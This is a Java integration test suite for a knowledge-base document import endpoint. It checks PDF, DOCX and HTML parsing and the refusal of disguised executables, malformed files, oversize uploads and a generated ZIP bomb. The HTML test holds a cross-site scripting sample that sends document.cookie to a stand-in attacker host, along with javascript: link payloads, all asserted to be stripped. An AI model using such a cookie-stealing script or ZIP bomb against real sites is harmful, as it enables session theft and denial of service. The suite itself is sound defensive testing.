package io.linea.cc.kb;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import io.linea.cc.Api;
import io.linea.platform.testing.LineaIntegrationTest;

/**
 * HD-03 import of PDF, DOCX and HTML through Apache Tika with real files made here (PDFBox, Apache POI),
 * and the refusals: an executable named {@code manual.pdf}, a ZIP bomb DOCX, a malformed PDF, an oversize
 * file, a type that disagrees with the name. Every refusal is a problem detail and leaves no article.
 */
@LineaIntegrationTest
class KnowledgeBaseImportIntegrationTests {

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @LocalServerPort
    int port;

    private Api a;

    @BeforeEach
    void tenant() {
        a = Api.adminOfNewTenant(port);
    }

    private Api.Response upload(String fileName, String contentType, byte[] content, String language) {
        String boundary = "----linea" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        try {
            if (fileName != null) {
                body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                        + "\"\r\nContent-Type: " + contentType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
                body.write(content);
                body.write("\r\n".getBytes(StandardCharsets.UTF_8));
            }
            body.write(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port
                    + "/api/cc/kb/articles/import?language=" + language + "&visibility=PUBLIC"))
                    .header("Authorization", "Bearer " + a.token()).header("X-Tenant-Id", a.tenant().toString())
                    .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())).build();
            HttpResponse<String> response = HTTP.send(request, HttpResponse.BodyHandlers.ofString());
            return new Api.Response(response.statusCode(), response.body());
        } catch (IOException e) {
            throw new IllegalStateException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private void refused(Api.Response response, int status, String code) {
        assertThat(response.status()).as(response.toString()).isEqualTo(status);
        assertThat(response.code()).isEqualTo(code);
        assertThat(response.json().path("detail").asString()).isNotBlank();
        assertThat(a.get("/api/cc/kb/articles").json().path("total").asInt()).as("articles left behind").isZero();
    }

    static byte[] pdf(String title, String text) throws IOException {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            document.getDocumentInformation().setTitle(title);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(text);
                content.endText();
            }
            document.save(out);
            return out.toByteArray();
        }
    }

    static byte[] docx(String heading, String text) throws IOException {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var styles = document.createStyles();
            var style = new org.apache.poi.xwpf.usermodel.XWPFStyle(
                    org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle.Factory.newInstance(), styles);
            style.getCTStyle().setStyleId("Heading1");
            style.getCTStyle().addNewName().setVal("heading 1");
            styles.addStyle(style);
            var title = document.createParagraph();
            title.setStyle("Heading1");
            title.createRun().setText(heading);
            document.createParagraph().createRun().setText(text);
            document.write(out);
            return out.toByteArray();
        }
    }

    @Test
    void pdfBecomesADraftWithItsTitleAndText() throws IOException {
        Api.Response imported = upload("manual.pdf", "application/pdf",
                pdf("Blocking a cash register", "Press the red button for five seconds."), "en");
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        assertThat(imported.json().path("title").asString()).isEqualTo("Blocking a cash register");
        assertThat(imported.json().path("body").asString()).contains("Press the red button for five seconds.");
        assertThat(imported.json().path("status").asString()).isEqualTo("DRAFT");
        assertThat(imported.json().path("visibility").asString()).isEqualTo("PUBLIC");
        assertThat(imported.json().path("language").asString()).isEqualTo("en");
        // searchable at once
        assertThat(a.get("/api/cc/kb/articles?q=buttons").json().path("total").asInt()).isEqualTo(1);
    }

    @Test
    void docxTitleComesFromItsFirstHeading() throws IOException {
        Api.Response imported = upload("guide.docx", "application/octet-stream",
                docx("Как зарегистрироваться", "Откройте сайт и нажмите «Регистрация»."), "ru");
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        assertThat(imported.json().path("title").asString()).isEqualTo("Как зарегистрироваться");
        assertThat(imported.json().path("body").asString()).contains("Откройте сайт и нажмите «Регистрация».");
    }

    @Test
    void htmlIsCleanedOfScriptsAndMarkup() {
        String html = """
                <!DOCTYPE html><html><head><title>Payment methods</title>
                <script>document.location='https://evil.example/'+document.cookie</script>
                <style>body { color: red }</style></head>
                <body><h1>Ways to pay</h1><p onclick="steal()">Pay by <b>card</b> or <a href="javascript:x()">cash</a>.</p>
                <p>Write &lt;script&gt; to see it as text, and [link](javascript:alert(1)).</p></body></html>
                """;
        Api.Response imported = upload("faq.html", "text/html", html.getBytes(StandardCharsets.UTF_8), "en");
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        String body = imported.json().path("body").asString();
        assertThat(imported.json().path("title").asString()).isEqualTo("Payment methods");
        assertThat(body).contains("Ways to pay").contains("Pay by card or cash.").doesNotContain("evil.example")
                .doesNotContain("color: red").doesNotContain("<b>").doesNotContain("<script>")
                .doesNotContain("](javascript").contains("&lt;script&gt;");
    }

    @Test
    void anExecutableNamedManualPdfIsRefused() {
        byte[] windows = Arrays.copyOf(new byte[] { 'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, (byte) 0xFF, (byte) 0xFF }, 4096);
        System.arraycopy("This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII), 0, windows, 78, 39);
        windows[0x3C] = (byte) 0x80;
        System.arraycopy(new byte[] { 'P', 'E', 0, 0, 0x4C, 0x01 }, 0, windows, 0x80, 6);
        refused(upload("manual.pdf", "application/pdf", windows, "en"), 415, "kb.import.unsupported-type");

        byte[] elf = Arrays.copyOf(new byte[] { 0x7F, 'E', 'L', 'F', 2, 1, 1, 0 }, 4096);
        elf[16] = 2;
        elf[18] = 0x3E;
        refused(upload("manual.pdf", "application/pdf", elf, "en"), 415, "kb.import.unsupported-type");
    }

    @Test
    void aTypeThatDisagreesWithTheNameOrDeclaredTypeIsRefused() throws IOException {
        byte[] pdf = pdf("Title", "Text");
        refused(upload("manual.docx", "application/octet-stream", pdf, "en"), 415, "kb.import.type-mismatch");
        refused(upload("manual.pdf", "text/html", pdf, "en"), 415, "kb.import.type-mismatch");
        refused(upload("manual.exe", "application/pdf", pdf, "en"), 415, "kb.import.unsupported-type");
    }

    @Test
    void aZipBombDocxIsRefused() throws IOException {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bomb)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("""
                    <?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                    <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                    <Default Extension="xml" ContentType="application/xml"/>\
                    <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
                    .getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write("""
                    <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                    <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"""
                    .getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>"
                    .getBytes(StandardCharsets.UTF_8));
            byte[] chunk = new byte[1024 * 1024];
            Arrays.fill(chunk, (byte) 'a');
            for (int i = 0; i < 200; i++) {
                zip.write(chunk); // 200 MB of text that compresses to a few hundred KB
            }
            zip.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.UTF_8));
        }
        assertThat(bomb.size()).isLessThan(2 * 1024 * 1024);
        refused(upload("bomb.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                bomb.toByteArray(), "en"), 422, "kb.import.zip-bomb");
    }

    @Test
    void malformedEmptyAndOversizeFilesAreRefused() throws IOException {
        refused(upload("broken.pdf", "application/pdf",
                "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nthis is not a PDF at all\n%%EOF".getBytes(
                        StandardCharsets.US_ASCII), "en"), 422, "kb.import.unreadable");
        byte[] truncated = Arrays.copyOf(pdf("Title", "Some text"), 300);
        refused(upload("truncated.pdf", "application/pdf", truncated, "en"), 422, "kb.import.unreadable");
        refused(upload("empty.html", "text/html", new byte[0], "en"), 400, "kb.import.empty");

        // just over the 10 MB limit: the knowledge base's own refusal, with the limit in the message
        byte[] big = new byte[10 * 1024 * 1024 + 1];
        byte[] start = "<!DOCTYPE html><html><body><p>".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(start, 0, big, 0, start.length);
        Arrays.fill(big, start.length, big.length, (byte) 'x');
        Api.Response tooLarge = upload("big.html", "text/html", big, "en");
        refused(tooLarge, 413, "kb.import.too-large");
        assertThat(tooLarge.json().path("detail").asString()).contains("10 MB");
    }

    @Test
    void brokenUploadsAreProblemsNotServerErrors() {
        refused(upload(null, null, null, "en"), 400, "request.missing-part");
        Api.Response notMultipart = a.call("POST", "/api/cc/kb/articles/import?language=en", "{}");
        assertThat(notMultipart.status()).isEqualTo(415);
        refused(upload("faq.html", "text/html", "<html><body>x</body></html>".getBytes(StandardCharsets.UTF_8), "de"),
                400, "request.invalid-parameter");
    }
}
